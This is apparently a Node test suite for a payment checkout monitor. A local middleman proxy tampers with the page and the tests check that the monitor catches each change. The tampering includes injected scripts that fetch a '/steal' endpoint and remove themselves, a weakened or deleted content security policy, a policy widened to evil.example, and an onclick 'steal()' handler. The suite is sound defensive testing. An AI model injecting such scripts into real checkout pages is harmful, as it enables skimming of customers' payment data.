import assert from 'node:assert/strict'
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { test } from 'node:test'
import { compare, type Inventory, inventory, look } from '../../scripts/checkout-inventory.ts'
import { loadCheckoutAssets } from '../../src/payments/checkout/assets.ts'
import { givenPayment } from './payments.ts'
import { usePlace } from './visit.ts'

// Somebody between the service and the customer changes the page; the monitor must see each change.

const place = usePlace()
const root = join(import.meta.dirname, '../..')
const { script, style } = loadCheckoutAssets()
const expected = inventory(script.text, style.text)
let payments = 0
const SETTLE_MS = 800

type Answer = { body: string; headers: Record<string, string | string[]> }
type Change = (answer: Answer) => void

/** Passes on what the service answers, its pages changed. */
async function withMiddleman<Result>(
  change: Change,
  run: (origin: string) => Promise<Result>,
): Promise<Result> {
  const server = createServer(async (request, response) => {
    const answer = await pass(request)
    if (/html/.test(String(answer.headers['content-type']))) change(answer)
    response.writeHead(200, answer.headers).end(answer.body)
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  try {
    return await run(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)
  } finally {
    server.closeAllConnections()
    server.close()
  }
}

async function pass({ url, method, headers }: IncomingMessage): Promise<Answer> {
  const answer = await fetch(`${place.service.baseUrl}${url}`, {
    method: method ?? 'GET',
    ...(headers['idempotency-key'] && {
      headers: { 'idempotency-key': String(headers['idempotency-key']) },
    }),
    signal: AbortSignal.timeout(120_000),
  })
  const kept = [...answer.headers].filter(([name]) => !/encoding|length|connection/.test(name))
  // An open stream is nothing that could be changed here.
  const isStream = /event-stream/.test(answer.headers.get('content-type') ?? '')
  if (isStream) await answer.body?.cancel()
  return { body: isStream ? '' : await answer.text(), headers: Object.fromEntries(kept) }
}

async function givenUrl(): Promise<string> {
  payments += 1
  return (await givenPayment(place, `MONITOR-${payments}`)).url
}

async function differencesOf(change: Change, settleMs = SETTLE_MS): Promise<string[]> {
  const { pathname } = new URL(await givenUrl())
  const seen = await withMiddleman(change, (origin) =>
    look(place.browser, origin + pathname, settleMs),
  )
  return compare(expected, seen)
}

test('a checkout as it was built differs in nothing', async () => {
  assert.deepEqual(compare(expected, await look(place.browser, await givenUrl(), SETTLE_MS)), [])
  assert.deepEqual(await differencesOf(() => {}), [])
})

test('the committed inventory is that of the build', () => {
  const path = join(root, 'docs/checkout-inventory.json')
  const committed = JSON.parse(readFileSync(path, 'utf8')) as Inventory
  assert.deepEqual(committed, expected)
})

const EVIL = `fetch('http://127.0.0.1:9/steal')`

const changes: [what: string, change: Change, found: RegExp[]][] = [
  [
    'one byte of the script',
    (answer) => {
      answer.body = answer.body.replace('"use strict"', '"use  strict"')
    },
    [/script of the build is missing/, /script, not from the build: in the page/, /did not run/],
  ],
  [
    'one byte of the script, and the policy with it',
    (answer) => {
      answer.body = answer.body.replace('"use strict"', '"use  strict"')
      answer.headers['content-security-policy'] = String(
        answer.headers['content-security-policy'],
      ).replace(/script-src [^;]*/, "script-src 'unsafe-inline'")
    },
    [/A script ran that is not from the build/, /policy has script-src: 'unsafe-inline', not/],
  ],
  [
    'a script added, which the policy stops',
    (answer) => {
      answer.body = answer.body.replace('</body>', `<script>${EVIL}</script></body>`)
    },
    [/script, not from the build: in the page/, /policy blocked a request/],
  ],
  [
    'a script added that runs, takes itself out again and asks elsewhere',
    (answer) => {
      const own = `${EVIL};document.currentScript.remove()`
      answer.body = answer.body.replace('</body>', `<script>${own}</script></body>`)
      delete answer.headers['content-security-policy']
    },
    [
      /A script ran/,
      /policy is missing/,
      /sent a request to another origin: http:\/\/127\.0\.0\.1:9\./,
    ],
  ],
  [
    'a script from elsewhere',
    (answer) => {
      answer.body = answer.body.replace(
        '</head>',
        '<script src="http://127.0.0.1:9/a.js"></script></head>',
      )
    },
    [/script, not from the build: http:\/\/127\.0\.0\.1:9\/a\.js/],
  ],
  [
    'the policy taken away',
    ({ headers }) => delete headers['content-security-policy'],
    [/^The header content-security-policy is missing\.$/],
  ],
  [
    'the policy widened by one address',
    ({ headers }) => {
      const policy = String(headers['content-security-policy'])
      headers['content-security-policy'] = policy.replace(
        "connect-src 'self'",
        "connect-src 'self' https://evil.example",
      )
    },
    [/^The policy has connect-src: 'self' https:\/\/evil\.example, not 'self'\.$/],
  ],
  [
    'a header taken away',
    ({ headers }) => delete headers['referrer-policy'],
    [/^The header referrer-policy is missing, not no-referrer\.$/],
  ],
  [
    'a cookie set',
    ({ headers }) => {
      headers['set-cookie'] = 'follow=me'
    },
    [/^Unexpected header set-cookie: follow=me\.$/],
  ],
  [
    'a style changed',
    (answer) => {
      answer.body = answer.body.replace('<style>', '<style>main{opacity:0}')
    },
    [/style of the build is missing/, /style, not from the build/],
  ],
  [
    'a frame over the page',
    (answer) => {
      answer.body = answer.body.replace('<main', '<iframe src="/"></iframe><main')
    },
    [/Not expected in the page: <iframe/],
  ],
  [
    'a handler in an attribute',
    (answer) => {
      answer.body = answer.body.replace('<main', '<main onclick="steal()"')
    },
    [/Not expected in the page: main with onclick/],
  ],
]

for (const [what, change, found] of changes) {
  test(`the monitor finds ${what}`, async () => {
    let differences: string[] = []
    const isMissing = (pattern: RegExp) => !differences.some((one) => pattern.test(one))
    // A busy machine may need longer to run what was added.
    for (const settleMs of [SETTLE_MS, 20 * SETTLE_MS]) {
      differences = await differencesOf((answer) => void change(answer), settleMs)
      if (!found.some(isMissing)) return
    }
    assert.fail(`${found.filter(isMissing).join(', ')} in ${differences.join('\n')}`)
  })
}

/** As `npm run checkout:monitor -- URL` runs it. */
async function runMonitor(url: string) {
  const child = spawn(
    process.execPath,
    ['--disable-warning=ExperimentalWarning', join(root, 'scripts/checkout-monitor.ts'), url],
    { stdio: ['ignore', 'pipe', 'inherit'], timeout: 180_000 },
  )
  let text = ''
  child.stdout.on('data', (chunk) => {
    text += chunk
  })
  const [code] = await once(child, 'close')
  return { code: code as number | null, text }
}

test('the command ends with 0 and a line, or with 1 and a list', async () => {
  const fine = await runMonitor(await givenUrl())
  assert.equal(fine.code, 0, fine.text)
  assert.match(fine.text, /matches the build/)

  const { pathname } = new URL(await givenUrl())
  const changed = await withMiddleman(
    ({ headers }) => void delete headers['referrer-policy'],
    (origin) => runMonitor(origin + pathname),
  )
  assert.equal(changed.code, 1)
  assert.match(changed.text, /^- The header referrer-policy is missing/m)
  assert.match(changed.text, /differs from the build\. Differences: 1\./)
})
